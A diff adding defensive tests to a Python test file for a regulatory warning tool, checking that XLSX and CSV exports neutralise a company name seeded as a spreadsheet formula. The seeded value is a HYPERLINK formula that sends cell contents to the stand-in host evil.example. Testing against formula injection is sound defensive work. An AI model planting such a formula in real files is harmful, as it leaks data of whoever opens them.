@@ -7,10 +7,13 @@ tests/risk/test_warnings.py: 甲公司 U[0] gets a 同一领域频繁违法 warn
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date
 from pathlib import Path
 
+import openpyxl
 import pandas as pd
 import pytest
 from rich.console import Console
@@ -158,3 +161,49 @@ def test_demo_warnings_renders_counts_by_rule_and_regulator(store: Settings) -> 
     console.print(demo_warnings(store, date(2026, 6, 30)))
     text = console.export_text()
     assert "同一领域频繁违法" in text and "税务局" in text and "created 2" in text
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"乙公司")'
+
+
+@pytest.fixture
+def hostile_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
+    """乙公司 registered under a formula (as a hostile file could have it ingested)."""
+    monkeypatch.setenv("CREDLINK_WORK_DIR", str(tmp_path / "work"))
+    monkeypatch.delenv("CREDLINK_DATABASE_URL", raising=False)
+    settings = Settings()
+    engine = open_engine(settings.store_url)
+    migrate(engine)
+    seed_store(
+        engine,
+        [ent(U[1], FORMULA_NAME)],
+        [
+            *penalties(U[1], "2025-01-01", "2025-02-01", domain="taxation"),
+            *penalties(U[1], "2025-03-01", domain="ecology_environment"),
+        ],
+    )
+    engine.dispose()
+    assert _run("run", "--as-of", "2026-06-30")[0] == 0
+    return settings
+
+
+def test_xlsx_export_never_holds_a_formula(hostile_store: Settings, tmp_path: Path) -> None:
+    path = tmp_path / "通报.xlsx"
+    code, output = _run("export", "--regulator", "税务局", "--out", str(path))
+    assert code == 0, output
+    sheet = openpyxl.load_workbook(path)["预警通报"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert [c.value for c in sheet[1]] == list(NOTICE_COLUMNS)
+    name = sheet.cell(row=2, column=1)
+    assert name.value == "'" + FORMULA_NAME and name.data_type == "s"
+    assert sheet.cell(row=2, column=2).value == U[1]
+
+
+def test_csv_export_quotes_the_formula(hostile_store: Settings, tmp_path: Path) -> None:
+    path = tmp_path / "通报.csv"
+    code, output = _run("export", "--regulator", "税务局", "--out", str(path))
+    assert code == 0, output
+    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
+    assert rows[0] == list(NOTICE_COLUMNS)
+    assert rows[1][0] == "'" + FORMULA_NAME and rows[1][1] == U[1]
